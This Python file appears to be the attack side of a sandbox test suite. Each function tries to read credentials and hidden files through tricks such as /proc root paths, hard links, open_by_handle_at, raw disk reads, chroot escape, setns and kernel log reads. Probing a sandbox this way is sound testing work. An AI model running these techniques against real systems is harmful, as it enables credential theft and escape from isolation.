"""Reading what is secret: files, and other ways to their bytes."""

from __future__ import annotations

import contextlib
import ctypes
import glob
import mmap
import os
import struct
import subprocess
from typing import TYPE_CHECKING

from common import attack, each, libc, read, syscall

if TYPE_CHECKING:
    from common import World

_AT_FDCWD = -100


@attack
def read_aws(world: World) -> object:
    """Read a cloud's keys."""
    return read(f"{world.home}/.aws/credentials")


@attack
def read_netrc(world: World) -> object:
    """Read the passwords of indexes and hosts."""
    return each(*(lambda name=name: read(f"{world.home}/{name}") for name in (".netrc", ".pypirc")))


@attack
def read_home(world: World) -> object:
    """Read every file below the home directory."""
    said = []
    for directory, _, names in os.walk(world.home):
        for name in names:
            with contextlib.suppress(OSError):
                said.append(read(os.path.join(directory, name)))
    return said


@attack
def read_named_secret(world: World) -> object:
    """Read a file that was named as hidden, below a directory that can be read."""
    return read(world.hidden_visible["read_named_secret"])


@attack
def read_tmp(world: World) -> object:
    """Read what another program left in the temporary directories."""
    return each(*(lambda path=path: read(path) for path in world.temporary_secrets))


@attack
def read_shared_memory(world: World) -> object:
    """Read what another program keeps in memory that has a name."""
    return read(world.shared_memory_secret)


@attack
def read_run(world: World) -> object:
    """Read what a service keeps in /run."""
    return read(world.run_secret)


@attack
def read_via_symlink(world: World) -> object:
    """Read through links, relative paths and names of the root directory in /proc."""
    link = os.path.join(world.build, "secret-link")
    os.symlink(f"{world.home}/.aws/credentials", link)
    secret = f"{world.home}/.aws/credentials"
    up = "/".join([".."] * 40)
    return each(
        lambda: read(link),
        lambda: read(f"{up}{secret}"),
        lambda: read(f"/proc/self/root{secret}"),
        lambda: read(f"/proc/self/cwd/{up}{secret}"),
        lambda: read(f"/proc/1/root{secret}"),
        lambda: read(f"/proc/1/cwd/{up}{secret}"),
    )


@attack
def read_via_hardlink(world: World) -> object:
    """Have the secret appear in the own directory: hard link, rename, exchange, moved parents."""
    said = []
    hidden, visible = world.hidden["read_via_hardlink"], world.hidden_visible["read_via_hardlink"]
    for number, secret in enumerate((f"{world.home}/keys/credentials", hidden, visible)):
        link = os.path.join(world.build, f"stolen-{number}")
        own = os.path.join(world.build, f"given-{number}")
        with open(own, "w", encoding="ascii") as file:
            file.write("given")
        said += each(
            lambda secret=secret, link=link: os.link(secret, link),
            lambda link=link: read(link),
            lambda secret=secret, own=own: libc(
                "renameat2", _AT_FDCWD, secret.encode(), _AT_FDCWD, own.encode(), 2
            ),
            lambda own=own: read(own),
            lambda secret=secret, link=link: os.rename(os.path.dirname(secret), link + "-d"),
            lambda secret=secret, link=link: read(f"{link}-d/{os.path.basename(secret)}"),
        )
    return said


@attack
def read_hidden(world: World) -> object:
    """Read what is hidden inside the own directory, by its name and by others."""
    hidden = world.hidden["read_hidden"]
    directory = os.path.dirname(hidden)
    return each(
        lambda: read(hidden),
        lambda: read(f"/proc/self/cwd/{os.path.relpath(hidden, world.build)}"),
        lambda: os.link(hidden, hidden + "-2"),
        lambda: read(hidden + "-2"),
        lambda: os.rename(hidden, hidden + "-3"),
        lambda: read(hidden + "-3"),
        lambda: os.rename(directory, directory + "-4"),
        lambda: read(f"{directory}-4/{os.path.basename(hidden)}"),
        lambda: os.rename(directory + "-4", directory),
    )


@attack
def read_by_handle(world: World) -> object:
    """Open a file by its number instead of its name (open_by_handle_at(2)): no directory is walked."""
    said = []
    for start in ("/", world.build, "/etc", "/usr", world.places["visible"]):
        said += each(lambda start=start: _by_handle(start, world))
    return said


def _by_handle(start: str, world: World) -> str:
    """Try handles of the secret's inode (known from outside) and of the root directory (always 2)."""
    mount = os.open(start, os.O_RDONLY)
    try:
        said = []
        for inode, generation in ((world.secret_inode, world.secret_generation), (2, 0)):
            handle = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, inode, generation))
            said += each(lambda handle=handle: _open_handle(mount, handle, world))
        held = ctypes.create_string_buffer(struct.pack("=Ii128x", 128, 0))
        number = ctypes.c_int()
        secret = f"{world.home}/.aws/credentials".encode()
        said += each(
            lambda: syscall("name_to_handle_at", _AT_FDCWD, secret, held, ctypes.byref(number), 0),
            lambda: _open_handle(mount, held, world),
        )
        return str(said)
    finally:
        os.close(mount)


def _open_handle(mount: int, handle: object, world: World) -> str:
    fd = syscall("open_by_handle_at", mount, handle, os.O_RDONLY)
    try:
        if os.path.isdir(f"/proc/self/fd/{fd}"):
            inner = os.open(f"{world.home}/.aws/credentials".lstrip("/"), os.O_RDONLY, dir_fd=fd)
            try:
                return os.read(inner, 4096).decode()
            finally:
                os.close(inner)
        return os.read(fd, 4096).decode()
    finally:
        os.close(fd)


@attack
def read_raw_disk(world: World) -> object:
    """Read the disk itself, past every file's permissions: each block device, for a mark that lies on it."""
    said = []
    for line in read("/proc/partitions", 1 << 16).splitlines()[2:]:
        major, minor, _, name = line.split()
        node = os.path.join(world.build, f"disk-{name}")
        said += each(
            lambda name=name: read(f"/dev/{name}", 64),
            lambda node=node, major=major, minor=minor: os.mknod(
                node, 0o060600, os.makedev(int(major), int(minor))
            ),
            lambda node=node: read(node, 64),
        )
    return [f"{world.claim} {text!r}" for text in said if "Error" not in text and text != "None"]


@attack
def read_by_copy(world: World) -> object:
    """Have other calls than read bring the bytes: mmap, sendfile, copy_file_range, splice, exec, a script."""
    secret = f"{world.home}/.aws/credentials"
    target = os.path.join(world.build, "copied")

    def mapped() -> str:
        with open(secret, "rb") as file, mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as held:
            return held[:4096].decode()

    def copied() -> str:
        with open(secret, "rb") as source, open(target, "wb") as own:
            os.sendfile(own.fileno(), source.fileno(), 0, 4096)
        return read(target)

    def run(*command: str) -> str:
        done = subprocess.run(command, capture_output=True, check=False, timeout=3)
        return (done.stdout + done.stderr).decode("utf-8", "replace")

    return each(
        mapped,
        copied,
        lambda: run("cp", secret, target),
        lambda: run("sh", secret),
        lambda: run("sh", "-c", f". {secret}; cat {secret}"),
        lambda: run("tar", "cf", "-", secret),
    )


def _masked(world: World) -> list[str]:
    name = "read_named_secret"
    return [f"{world.home}/.aws/credentials", world.hidden[name], world.hidden_visible[name]]


@attack
def nested_userns_unmask(world: World) -> object:
    """Become root of a new user namespace and take away what covers the secrets."""
    return world.tool("unmask", *_masked(world))


@attack
def unmask_directly(world: World) -> object:
    """Take away what covers the secrets, with the rights there are."""
    return world.tool("unmask", "-", *_masked(world))


@attack
def chroot_out(world: World) -> object:
    """Leave by chroot: an old directory's descriptor stays outside of the new root (chroot(2))."""
    os.makedirs(f"{world.build}/jail", exist_ok=True)
    fd = os.open("/", os.O_RDONLY)
    said = each(lambda: os.chroot(f"{world.build}/jail"), lambda: os.fchdir(fd))
    said += each(*[lambda: os.chdir("..")] * 20, lambda: os.chroot("."))
    return said[-3:] + each(lambda: read(f"{world.home}/.aws/credentials"))


@attack
def other_namespaces(world: World) -> object:
    """Join the namespaces of processes outside (setns(2)), by /proc and by descriptor, then read and send."""
    said = []
    for process in (world.canary["pid"], world.starter, 1):
        for kind in ("user", "mnt", "net", "pid", "ipc"):
            said += each(lambda process=process, kind=kind: _join(f"/proc/{process}/ns/{kind}"))
        said += each(lambda process=process: _join_all(process))
    return said + each(lambda: read(f"{world.home}/.aws/credentials"))


def _join(path: str) -> str:
    fd = os.open(path, os.O_RDONLY)
    try:
        return f"joined {path} {syscall('setns', fd, 0)}"
    finally:
        os.close(fd)


def _join_all(process: int) -> str:
    fd = syscall("pidfd_open", process, 0)
    try:
        return f"joined {syscall('setns', fd, 0x00020000 | 0x10000000 | 0x40000000)}"
    finally:
        os.close(fd)


@attack
def watch_hidden(world: World) -> object:
    """Learn from notifications what happens in hidden directories (inotify, fanotify): the names in them."""

    def watched(place: str) -> str:
        fd = libc("inotify_init1", os.O_NONBLOCK)
        libc("inotify_add_watch", fd, place.encode(), 0xFFF)
        world.ask("touch", path=os.path.join(place, world.watched_name))
        return os.read(fd, 4096).decode("latin-1")

    def fanotify() -> str:
        return f"fanotify_init {syscall('fanotify_init', 0x200, os.O_RDONLY)}"

    return each(lambda: watched(f"{world.home}/.aws"), lambda: watched(world.home), fanotify)


@attack
def list_hidden(world: World) -> object:
    """Learn the names in hidden directories."""
    return each(
        *(
            lambda place=place: os.listdir(place)
            for place in (world.home, f"{world.home}/.aws", *map(os.path.dirname, world.temporary_secrets))
        )
    )


@attack
def own_environment(world: World) -> object:
    """Read the environment that one was given."""
    return dict(os.environ), read("/proc/self/environ", 1 << 16)


@attack
def kernel_log_read(world: World) -> object:
    """Read the kernel's log, in which others' secrets and addresses stand."""

    def by_call() -> str:
        held = ctypes.create_string_buffer(1 << 18)
        size = syscall("syslog", 3, held, len(held))
        return held.raw[:size].decode("utf-8", "replace")

    def by_device() -> str:
        fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
        try:
            return "".join(os.read(fd, 8192).decode("utf-8", "replace") for _ in range(4))
        finally:
            os.close(fd)

    told = each(by_call, by_device)
    return [f"{world.claim} {text[:80]}" for text in told if "Error" not in text]


@attack
def launcher_places(world: World) -> object:
    """Read what the launcher left in its own directories: the task with all it hides, its files."""
    said = []
    for path in [*glob.glob(f"{world.caller}/veln-hook-*/*"), world.report_path]:
        if path:
            said += each(lambda path=path: f"{world.claim} {read(path)}")
    return said
